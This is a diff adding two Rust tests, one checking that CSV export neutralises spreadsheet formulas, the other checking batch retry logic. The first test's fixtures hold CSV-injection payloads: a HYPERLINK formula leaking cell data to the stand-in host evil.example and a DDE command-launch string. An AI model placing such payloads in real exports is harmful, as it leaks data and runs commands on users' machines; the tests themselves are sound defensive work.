@@ -234,3 +234,86 @@ fn results_copy_as_rfc_4180_csv() {
          b,\"with, comma \"\"and\"\" quote\",api-error,SYS.1006,\"line\nbreak\"\r\n"
     );
 }
+
+#[test]
+fn copied_results_never_hold_a_spreadsheet_formula() {
+    let row = |name, message| CsvRow {
+        uuid: "c",
+        name,
+        outcome: "api-error",
+        code: "",
+        message,
+    };
+    let csv = results_csv([
+        row(
+            r#"=HYPERLINK("https://evil.example/?leak="&A2,"details")"#,
+            "=cmd|' /C calc'!A0",
+        ),
+        row("+1", "-2"),
+        row("@SUM(A1)", "\tx"),
+        row("\rx", "a=b stays"),
+    ]);
+    assert_eq!(
+        csv,
+        "uuid,name,outcome,code,message\r\n\
+         c,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A2,\"\"details\"\")\",api-error,,'=cmd|' /C calc'!A0\r\n\
+         c,'+1,api-error,,'-2\r\n\
+         c,'@SUM(A1),api-error,,'\tx\r\n\
+         c,\"'\rx\",api-error,,a=b stays\r\n"
+    );
+    for line in csv.lines().skip(1) {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a formula went out: {cell}"
+            );
+        }
+    }
+}
+
+#[test]
+fn retry_takes_the_first_runs_tasks_force_and_tags_and_the_reach_of_now() {
+    use cbt_panel::batch::{BatchPlan, BatchTask, Reach};
+    let task = |n: &str| BatchTask {
+        uuid: format!("{n:0>32}"),
+        name: format!("task {n}"),
+    };
+    let plan = BatchPlan {
+        tasks: vec![task("1"), task("2"), task("3")],
+        force: true,
+        system_tags: vec!["a".into()],
+        user_tags: vec!["b".into()],
+        limit: 4,
+        example: None,
+    };
+    let before = Reach {
+        api_base: "http://old".into(),
+        session: "11111111111111111111111111111111".into(),
+        deadline_ms: 1_000,
+    };
+    assert_eq!(plan.request(0, &before).session, before.session);
+    let rows = [
+        Row::Ended(stopped()),
+        Row::Ended(expired()),
+        Row::NotSent(NotSent::SessionExpired),
+    ];
+    let rest = plan.rest(&rows);
+    assert_eq!(rest.tasks, vec![task("2"), task("3")]);
+    let now = Reach {
+        api_base: "http://new".into(),
+        session: "22222222222222222222222222222222".into(),
+        deadline_ms: 2_000,
+    };
+    let r = rest.request(1, &now);
+    assert_eq!(
+        (r.api_base.as_str(), r.session.as_str(), r.uuid.as_str()),
+        ("http://new", now.session.as_str(), task("3").uuid.as_str())
+    );
+    assert!(r.force);
+    assert_eq!(
+        (r.system_tags, r.user_tags),
+        (vec!["a".into()], vec!["b".into()])
+    );
+    assert!(r.job_id.is_empty(), "a job id is new for each stop sent");
+}
